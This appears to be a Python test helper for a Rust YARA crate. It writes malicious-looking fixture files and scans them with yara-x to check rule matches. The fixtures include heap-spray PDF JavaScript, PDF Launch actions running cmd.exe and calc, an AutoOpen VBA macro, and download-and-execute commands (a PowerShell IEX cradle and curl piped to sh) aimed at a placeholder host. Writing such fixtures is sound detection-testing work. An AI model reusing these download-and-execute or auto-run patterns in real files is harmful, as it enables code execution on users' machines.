"""The oracle side of crates/yara/tests/oracle.rs.

`make-tree DIR`: writes a tree of real files to match: executables copied from /usr/bin and
the Windows launchers pip vendors (distlib's t32/t64/w32/w64.exe, real PE files), PDFs written
here (plain, JavaScript, obfuscated names, Launch actions, embedded files, heap-spray
JavaScript), an RTF with an embedded object, scripts, and zip archives (one laid out like a
.docm). Prints nothing.

`scan`: reads {"rules": [[namespace, path], ...], "files": [path, ...]} on stdin; compiles
the rules with the PyPI `yara-x` package (one namespace per file, the five globals defined
first, as hashsweep-yara does) and scans every file's bytes; prints
{"version": ..., "matches": {path: ["namespace:rule", ...]}}.
"""

import io
import json
import os
import shutil
import sys
import zipfile
import zlib

GLOBALS = ["filename", "filepath", "extension", "filetype", "owner"]


def pdf(objects):
    """A PDF whose objects (1-based, in order) are the given byte strings, with a valid xref."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def stream(data, extra=b"", flate=False):
    if flate:
        data = zlib.compress(data)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


PAGE = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
    stream(b"BT /F1 24 Tf 72 700 Td (Hello) Tj ET"),
]

SPRAY_JS = (
    b'var sc = unescape("%u9090%u9090%u4141%u4141%u0c0c%u0c0c");\n'
    b"var nopblock = sc; while (nopblock.length < 0x40000) nopblock += nopblock;\n"
    b'var s = String.fromCharCode(101,118,97,108); var t = s.substr(0, 2).replace("e", "E");\n'
    b"util.printf(\"%45000f\", 0); Collab.collectEmailInfo({msg: t.toString(16)});\n"
    b"this.media.newPlayer(null); var HeapSpray = []; eval(t);\n"
)


def pdfs():
    cat_js = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript 6 0 R >> >>"
    yield "hello.pdf", pdf(PAGE)
    yield "js_openaction.pdf", pdf(
        [cat_js] + PAGE[1:] + [b"<< /Type /Action /S /JavaScript /JS 7 0 R >>",
                               b"<< /Names [(a) 5 0 R] >>", stream(b'app.alert("hi");')]
    )
    yield "js_spray.pdf", pdf(
        [cat_js] + PAGE[1:] + [b"<< /Type /Action /S /JavaScript /JS 7 0 R >>",
                               b"<< /Names [(a) 5 0 R] >>", stream(SPRAY_JS)]
    )
    yield "js_spray_flate.pdf", pdf(
        [cat_js] + PAGE[1:] + [b"<< /Type /Action /S /JavaScript /JS 7 0 R >>",
                               b"<< /Names [(a) 5 0 R] >>", stream(SPRAY_JS, flate=True)]
    )
    yield "obfuscated_names.pdf", pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 5 0 R /A#41 << /O 5 0 R >> >>"] + PAGE[1:]
        + [b"<< /Type /Action /S /J#61vaScript /JS (app.alert\\(1\\)) >>"]
    )
    yield "launch.pdf", pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"] + PAGE[1:]
        + [b"<</S/Launch/Type/Action/Win<</F(cmd.exe)/P(/c calc.exe)/D(c:\\\\windows\\\\system32)>>>>"]
    )
    mz = open(sys.executable, "rb").read(4096)
    yield "embedded_file.pdf", pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >> >>"]
        + PAGE[1:]
        + [b"<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>",
           stream(b"MZ\x90\x00" + mz, extra=b" /Type /EmbeddedFile /Subtype /application#2Fx-msdownload")]
    )
    yield "xfa_richmedia.pdf", pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 5 0 R >> /URI (http://example.invalid/) >>"]
        + PAGE[1:]
        + [stream(b"<xdp:xdp><script contentType='application/x-javascript'>app.alert(1)</script></xdp:xdp>"),
           b"<< /Type /RichMedia /Subtype /Flash /R#69chM#65#64ia#53e#74ti#6e#67#73/ 1 >>"]
    )


def rtf():
    objdata = (b"01050000020000000b0000004571756174696f6e2e33000000000000000000000c0000"
               b"d0cf11e0a1b11ae1000000000000000000000000000000003e000300feff0900")
    yield "equation.rtf", (b"{\\rtf1\\ansi{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}"
                           b"\\objw380\\objh260{\\*\\objdata " + objdata + b"}}}\n")
    yield "package.rtf", (b"{\\rtf1{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objdata "
                          b"0105000002000000080000005061636b61676500000000000000000000}"
                          b"{\\*\\objclass Package}{\\*\\oleclsid \\'7bF20DA720-C02F-11CE-927B-0800095AE340\\'7d}}}\n")


SCRIPTS = {
    "dropper.ps1": b"powershell -nop -w hidden -EncodedCommand SQBFAFgA\n"
                   b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')\n",
    "macro.vba": b"Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\n"
                 b"  Set o = CreateObject(\"WScript.Shell\")\n  o.Run \"cmd /c calc\"\n"
                 b"  Open \"c:\\x.bat\" For Output As #1\n  Shell(\"calc\")\nEnd Sub\n",
    "page.html": b"<html><script language=\"VBScript\">CreateObject(\"Shell.Application\")</script>"
                 b"<object classid=\"clsid:D27CDB6E-AE6D-11cf-96B8-444553540000\"></object></html>\n",
    "install.sh": b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n",
}


def make_tree(root):
    os.makedirs(root, exist_ok=True)
    bins = os.path.join(root, "bin")
    os.makedirs(bins)
    taken = 0
    for name in sorted(os.listdir("/usr/bin")):
        p = os.path.join("/usr/bin", name)
        if os.path.islink(p) or not os.path.isfile(p) or not os.access(p, os.R_OK):
            continue
        if 10_000 < os.path.getsize(p) < 3_000_000:
            shutil.copyfile(p, os.path.join(bins, name))
            taken += 1
            if taken == 40:
                break
    try:
        import pip._vendor.distlib as distlib
        d = os.path.dirname(distlib.__file__)
        for name in sorted(os.listdir(d)):
            if name.endswith(".exe"):
                shutil.copyfile(os.path.join(d, name), os.path.join(bins, name))
    except ImportError:
        pass
    docs = os.path.join(root, "docs")
    os.makedirs(docs)
    written = {}
    for name, data in list(pdfs()) + list(rtf()) + list(SCRIPTS.items()):
        with open(os.path.join(docs, name), "wb") as f:
            f.write(data)
        written[name] = data
    arch = os.path.join(root, "archives")
    os.makedirs(arch)
    with zipfile.ZipFile(os.path.join(arch, "pdfs.zip"), "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in written.items():
            if name.endswith(".pdf"):
                z.writestr(name, data)
    with zipfile.ZipFile(os.path.join(arch, "stored.zip"), "w", zipfile.ZIP_STORED) as z:
        for name, data in written.items():
            z.writestr(name, data)
    with zipfile.ZipFile(os.path.join(arch, "invoice.docm"), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", b"<Types><Default Extension=\"bin\" "
                   b"ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>")
        z.writestr("word/document.xml", b"<w:document><w:body>Invoice</w:body></w:document>")
        z.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + written["macro.vba"])
    with open(os.path.join(root, "empty"), "wb"):
        pass


def scan(req):
    import yara_x

    compiler = yara_x.Compiler()
    for g in GLOBALS:
        compiler.define_global(g, "")
    for namespace, path in req["rules"]:
        compiler.new_namespace(namespace)
        with open(path, encoding="utf-8") as f:
            compiler.add_source(f.read(), origin=path)
    rules = compiler.build()
    scanner = yara_x.Scanner(rules)
    matches = {}
    for path in req["files"]:
        name = os.path.basename(path)
        scanner.set_global("filename", name)
        scanner.set_global("filepath", os.path.dirname(path))
        scanner.set_global("extension", name.rsplit(".", 1)[1] if "." in name else "")
        scanner.set_global("filetype", "")
        scanner.set_global("owner", "")
        with open(path, "rb") as f:
            data = f.read()
        results = scanner.scan(data)
        matches[path] = sorted(f"{r.namespace}:{r.identifier}" for r in results.matching_rules)
    from importlib.metadata import version
    print(json.dumps({"version": version("yara-x"), "matches": matches}))


if __name__ == "__main__":
    if sys.argv[1] == "make-tree":
        make_tree(sys.argv[2])
    elif sys.argv[1] == "scan":
        scan(json.load(sys.stdin))
    else:
        sys.exit(f"unknown command {sys.argv[1]}")
